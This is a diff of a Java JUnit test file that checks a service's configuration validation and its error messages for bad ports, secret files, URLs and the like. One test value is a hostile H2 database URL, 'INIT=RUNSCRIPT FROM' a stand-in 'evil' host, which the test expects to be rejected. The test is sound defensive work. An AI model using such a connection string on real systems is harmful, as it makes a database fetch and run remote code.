@@ -13,6 +13,7 @@ import java.util.Base64;
 import java.util.HashMap;
 import java.util.List;
 import java.util.Map;
+import java.util.function.Consumer;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
@@ -56,22 +57,94 @@ final class SettingsTest {
     }
 
     @Test
-    void everyWrongSettingIsNamedAtOnce() {
+    void everyWrongSettingIsNamedAtOnceWithItsVariableAndItsFlag(@TempDir Path directory) throws Exception {
+        Path open = Files.writeString(directory.resolve("open"), "fedcba9876543210fedcba9876543210");
+        Files.setPosixFilePermissions(open, PosixFilePermissions.fromString("rw-r--r--"));
         environment.put("FIXWRIGHT_PORT", "http");
         environment.put("FIXWRIGHT_WORKERS", "0");
-        environment.put("FIXWRIGHT_DATABASE_URL", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'");
+        environment.put("FIXWRIGHT_WRITES_PER_HOUR", "many");
+        environment.put("FIXWRIGHT_LOG_LEVEL", "verbose");
+        environment.put("FIXWRIGHT_DATA_DIR", key + "/data");
+        environment.put("FIXWRIGHT_DATABASE_PASSWORD_FILE", directory.toString());
+        environment.put("FIXWRIGHT_APP_ID", "my-app");
         environment.put("FIXWRIGHT_PRIVATE_KEY_FILE", "/nowhere/key.pem");
         environment.put("FIXWRIGHT_WEBHOOK_SECRET", "development");
-        environment.put("FIXWRIGHT_GITHUB_URL", "http://github.example.com");
+        environment.put("FIXWRIGHT_WEBHOOK_SECRET_PREVIOUS_FILE", open.toString());
+        environment.put("FIXWRIGHT_GITHUB_URL", "https://github.com");
+
+        assertThat(problems()).satisfiesExactlyInAnyOrder(
+                starts("FIXWRIGHT_PORT (--port) is not a number: http. Set one from 0 to 65535."),
+                starts("FIXWRIGHT_WORKERS (--workers) is 0. Set a number from 1 to 64."),
+                starts("FIXWRIGHT_WRITES_PER_HOUR (--writes-per-hour) is not a number"),
+                starts("FIXWRIGHT_LOG_LEVEL is \"verbose\". Set DEBUG, INFO, WARN or ERROR."),
+                starts("FIXWRIGHT_DATA_DIR (--data-dir) is " + key + "/data, but " + key + " is a file. Set a folder."),
+                starts("FIXWRIGHT_DATABASE_PASSWORD_FILE (--database-password-file) names a folder: "),
+                starts("FIXWRIGHT_APP_ID (--app-id) is \"my-app\". Set the client id"),
+                starts("FIXWRIGHT_PRIVATE_KEY_FILE (--private-key-file) names a file that is not there: "),
+                starts("FIXWRIGHT_WEBHOOK_SECRET (--webhook-secret) is a default that everybody knows. "),
+                starts("FIXWRIGHT_WEBHOOK_SECRET_PREVIOUS_FILE (--webhook-secret-previous-file) names a file that"
+                        + " everybody on this machine may read: " + open + ". Run: chmod 600 " + open),
+                starts("FIXWRIGHT_GITHUB_URL (--github-url) must be an https:// address of GitHub's REST API"));
+    }
+
+    private static Consumer<String> starts(String expected) {
+        return problem -> assertThat(problem).startsWith(expected);
+    }
+
+    @Test
+    void wrongDatabaseAddressIsNamedWithTheOthers() {
+        environment.put("FIXWRIGHT_PORT", "70000");
+        environment.put("FIXWRIGHT_DATABASE_URL", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'");
 
         assertThat(problems())
-                .hasSize(6)
-                .anySatisfy(problem -> assertThat(problem).startsWith("FIXWRIGHT_PORT"))
-                .anySatisfy(problem -> assertThat(problem).startsWith("FIXWRIGHT_WORKERS"))
-                .anySatisfy(problem -> assertThat(problem).startsWith("FIXWRIGHT_DATABASE_URL"))
-                .anySatisfy(problem -> assertThat(problem).startsWith("FIXWRIGHT_PRIVATE_KEY_FILE"))
-                .anySatisfy(problem -> assertThat(problem).startsWith("FIXWRIGHT_WEBHOOK_SECRET"))
-                .anySatisfy(problem -> assertThat(problem).startsWith("FIXWRIGHT_GITHUB_URL"));
+                .satisfiesExactlyInAnyOrder(
+                        starts("FIXWRIGHT_PORT (--port) is 70000."),
+                        starts("FIXWRIGHT_DATABASE_URL (--database-url) must begin with jdbc:postgresql://"));
+    }
+
+    @Test
+    void emptySecretFileIsRefused(@TempDir Path directory) throws Exception {
+        Path file = Files.writeString(directory.resolve("secret"), "\n");
+        Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rw-------"));
+        environment.remove("FIXWRIGHT_WEBHOOK_SECRET");
+        environment.put("FIXWRIGHT_WEBHOOK_SECRET_FILE", file.toString());
+
+        assertThat(problems())
+                .singleElement()
+                .asString()
+                .startsWith("FIXWRIGHT_WEBHOOK_SECRET_FILE (--webhook-secret-file) names an empty file");
+    }
+
+    @Test
+    void portThatKubernetesSetForAServiceIsExplained() {
+        environment.put("FIXWRIGHT_PORT", "tcp://10.0.0.7:8080");
+
+        assertThat(problems()).singleElement().asString().contains("Kubernetes", "enableServiceLinks");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"Iv1.0123456789abcdef", "Iv23liAbCdEfGhIjKlMn", "1", "123456"})
+    void clientIdAndNumberAreTaken(String id) {
+        environment.put("FIXWRIGHT_APP_ID", id);
+
+        assertThat(Settings.of(environment, Map.of()).app().orElseThrow().gitHub().issuer()).isEqualTo(id);
+    }
+
+    @Test
+    void dataDirectoryIsNotMadeByLookingAtIt(@TempDir Path directory) {
+        environment.put("FIXWRIGHT_DATA_DIR", directory.resolve("a/b").toString());
+
+        Settings.of(environment, Map.of());
+
+        assertThat(directory).isEmptyDirectory();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"debug", "INFO", "Warn", "error"})
+    void logLevelIsTakenInAnyCase(String level) {
+        environment.put("FIXWRIGHT_LOG_LEVEL", level);
+
+        assertThat(Settings.of(environment, Map.of()).port()).isEqualTo(8080);
     }
 
     @Test
@@ -105,6 +178,7 @@ final class SettingsTest {
     @Test
     void secretMayStandInAFile(@TempDir Path directory) throws Exception {
         Path file = Files.writeString(directory.resolve("secret"), "fedcba9876543210fedcba9876543210\n");
+        Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rw-------"));
         environment.remove("FIXWRIGHT_WEBHOOK_SECRET");
         environment.put("FIXWRIGHT_WEBHOOK_SECRET_FILE", file.toString());
 
